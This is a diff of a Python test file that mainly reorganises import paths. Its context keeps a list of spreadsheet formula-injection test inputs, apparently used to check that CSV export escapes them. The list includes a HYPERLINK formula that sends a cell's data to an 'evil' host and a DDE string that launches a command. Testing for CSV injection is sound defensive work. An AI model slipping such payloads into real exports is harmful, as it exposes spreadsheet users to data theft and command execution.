@@ -14,11 +14,11 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 from rich.console import Console
 
-from vtcav_ray.concepts.decisions import Decision, Decisions, Subject, format_decisions, parse_decisions
-from vtcav_ray.csv_text import as_text, from_text
+from vtcav_ray.cli.tables import print_table
+from vtcav_ray.clips.decisions import Decision, Decisions, Subject, format_decisions, parse_decisions
 from vtcav_ray.errors import ConfigError
-from vtcav_ray.export import print_table
-from vtcav_ray.file_names import distinct_names
+from vtcav_ray.text.csv_text import as_text, from_text
+from vtcav_ray.text.file_names import distinct_names
 
 FORMULAS = ["=1+2", '=HYPERLINK("http://evil/?x="&A1)', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1",
             "\n=1", "\uff1d1", "'=1", "''-x", "-", "+1 2", "=5"]  # fmt: skip
